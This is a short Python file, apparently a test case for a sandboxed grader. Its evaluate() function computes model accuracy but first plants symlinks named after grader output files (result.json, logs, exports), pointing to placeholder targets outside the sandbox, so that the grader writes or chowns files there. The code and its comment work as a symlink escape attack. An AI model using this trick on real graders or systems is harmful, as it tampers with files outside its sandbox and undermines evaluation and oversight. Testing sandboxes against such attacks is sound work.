# Leaves links, where the grader might write, create or change owners, to a file and a directory outside the
# sandbox (an attacker learns such paths from /proc/self/mountinfo): the gradebook, a directory to chown.
import os
from pathlib import Path

OUTSIDE = ("__SENTINEL_FILE__", "__SENTINEL_DIR__")
NAMES = (".hosts", "hosts", "run", "exports", "export0.npz", "dcp", "own", "attempt0", "attempt1", "code",
         *(f"world{k}" for k in range(1, 5)), *(f"job{k}" for k in range(4)),
         *(f"rank{r}.{kind}" for r in range(4) for kind in ("log", "stack", "events", "result.json", "snapshots.npy")))


def evaluate(model, dataset, batch_size=16):
    import torch
    import torch.distributed as dist

    here = Path.cwd()
    for folder in (here, here.parent):
        for k, name in enumerate(NAMES):
            try:
                os.symlink(OUTSIDE[k % 2], folder / f"{name}.tmp")
                os.replace(folder / f"{name}.tmp", folder / name)
            except OSError:
                pass
    rank, world_size = dist.get_rank(), dist.get_world_size()
    counts = torch.zeros(2)
    with torch.no_grad():
        x, y = dataset.tensors
        mine = range(rank, len(x), world_size)
        counts[0] = (model(x[mine]).argmax(dim=1) == y[mine]).sum()
        counts[1] = len(mine)
    dist.all_reduce(counts)
    return (counts[0] / counts[1]).item()
